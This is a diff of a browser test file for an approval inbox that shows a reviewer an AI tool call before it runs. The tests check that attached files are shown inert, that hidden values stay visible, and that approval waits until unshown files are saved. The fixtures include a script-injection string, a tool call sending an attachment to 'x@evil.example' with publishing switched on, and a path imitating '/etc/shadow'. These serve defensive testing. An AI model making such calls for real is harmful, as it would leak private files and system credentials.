@@ -138,8 +138,10 @@ test("a file that the author names is shown by its bytes, and nothing in it runs
   const pixel = `[...document.querySelector("canvas").getContext("2d").getImageData(0, 0, 1, 1).data]`;
   await expect.poll(() => page.evaluate(pixel)).toEqual([255, 0, 0, 255]);
   const said = await card.locator(".voice-model").innerText();
-  expect(said).toContain("Picture, 1 × 1 pixels");
-  expect(said.match(/File of a kind that is not shown/g)).toHaveLength(2);
+  expect(said).toMatch(/Picture, 1 × 1 pixels, \d+ bytes, called text\/html/);
+  // Whatever is no picture and no PDF stays the text that it is.
+  expect(said).toContain("data:image/svg+xml;base64,PHN2Zy");
+  expect(said).toContain(base64("<script>window.owned = 1</script>"));
   expect(said).toContain("The picture is too large to be shown.");
   expect(said).toContain("PDF document, not shown here");
   expect(said).toContain("https://evil.example/receipt.png");
@@ -149,6 +151,43 @@ test("a file that the author names is shown by its bytes, and nothing in it runs
   await card.getByRole("button", { name: "Save the file" }).last().click();
   expect((await saved).suggestedFilename()).toBe("paper.pdf");
   expect(await axeFaults(page)).toEqual([]);
+});
+
+test("a file hides nothing of what runs, and one that is not shown must be saved before it is approved", async () => {
+  const names = ["attachment", "path", "paper", "damaged"];
+  const display = Object.fromEntries(names.map((name) => [name, "file"] as const));
+  const server = await startInboxServer(resources, {
+    tools: [tool({ ...gated, name: "attach", confirmationLayout: { display } })],
+  });
+  const [id = ""] = await server.ask("ana", {
+    name: "attach",
+    args: {
+      attachment: { inlineData: { mimeType: "image/png", data: PNG }, to: "x@evil.example", publish: true },
+      path: "/etc/shadow1",
+      paper: base64("%PDF-1.7\n%%EOF\n"),
+      damaged: Buffer.from(PNG, "base64").subarray(0, 36).toString("base64"),
+    },
+  });
+  const { page, open, card, toEnd } = await openInbox(resources, { newPage, url: server.url });
+  await open(id);
+  const said = await card.locator(".voice-model").innerText();
+  expect(said).toMatch(/attachment\s+inlineData\s+mimeType\s+image\/png\s+data\s+iVBOR/);
+  expect(said).toMatch(/to\s+x@evil\.example\s+publish\s+true/);
+  expect(said).toMatch(/path\s+\/etc\/shadow1/);
+  await toEnd();
+  await card.getByText("The picture is damaged and cannot be shown.").waitFor();
+  const save = async (index: number): Promise<void> => {
+    const saved = page.waitForEvent("download");
+    await card.getByRole("button", { name: "Save the file" }).nth(index).click();
+    await saved;
+  };
+  await card.getByText("Save and check the 2 files that are not shown first.").waitFor();
+  await save(0);
+  await card.getByText("Save and check the file that is not shown first.").waitFor();
+  const approve = card.getByRole("button", { name: /^Approve/ });
+  expect(await approve.getAttribute("aria-disabled")).toBe("true");
+  await save(1);
+  await expect.poll(() => approve.getAttribute("aria-disabled")).not.toBe("true");
 });
 
 test("hostile Markdown is laid out beside its source: no link, no picture, no markup, nothing wider than the page", async () => {
